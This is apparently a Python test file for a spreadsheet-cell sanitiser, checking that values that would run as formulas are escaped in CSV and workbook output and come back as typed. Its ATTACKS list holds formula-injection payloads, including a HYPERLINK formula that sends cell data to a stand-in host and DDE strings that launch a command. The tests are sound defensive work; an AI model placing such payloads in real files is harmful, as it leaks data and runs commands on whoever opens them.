"""What leaves in a spreadsheet is never run, and comes back as it was typed."""

from __future__ import annotations

import csv
import io
import string

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from alongside.cells import HIDDEN, SIGNS, SafeWriter, plain_cell, safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+44 7700 900417",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "＝1+1",
    "'=1+1",
]
typed = st.text(
    st.sampled_from(SIGNS + HIDDEN + " \u00a0'\";,|!()" + string.ascii_letters), max_size=12
)
anything = typed | st.text(max_size=30)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_be_run_is_shielded(attack):
    assert safe_cell(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "words", ["Peg", "", " ", "O’Brien", "'tis fine", "AD4 6RT", "a=b", "3 - 5"]
)
def test_words_are_left_as_they_are(words):
    assert safe_cell(words) == words


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert [safe_cell(one) for one in (-3, 2.5, True, None)] == [-3, 2.5, True, ""]


def test_signs_that_no_file_can_hold_become_a_space():
    assert safe_cell("a\0b\x0bc\ud800d") == "a b c d"


@given(anything)
def test_no_cell_begins_with_a_sign_that_is_run(text):
    assert not str(safe_cell(text)).lstrip(" \u00a0" + HIDDEN).startswith(tuple(SIGNS)) or not (
        text.strip()
    )


@given(typed)
def test_what_comes_back_is_what_was_typed(text):
    assert plain_cell(safe_cell(text)) == text


@given(st.lists(st.lists(anything, min_size=1, max_size=4), max_size=4))
def test_rows_of_csv_come_back_cell_by_cell(rows):
    file = io.StringIO(newline="")
    writer = SafeWriter(file)

    for row in rows:
        writer.row(row)

    file.seek(0)
    assert list(csv.reader(file)) == [[safe_cell(cell) for cell in row] for row in rows]


@given(anything)
def test_a_workbook_takes_every_cell_as_text(text):
    sheet = openpyxl.Workbook().active

    cell = sheet.cell(1, 1, safe_cell(text))

    assert cell.data_type in ("s", "n")  # n: an empty one; never f, a formula
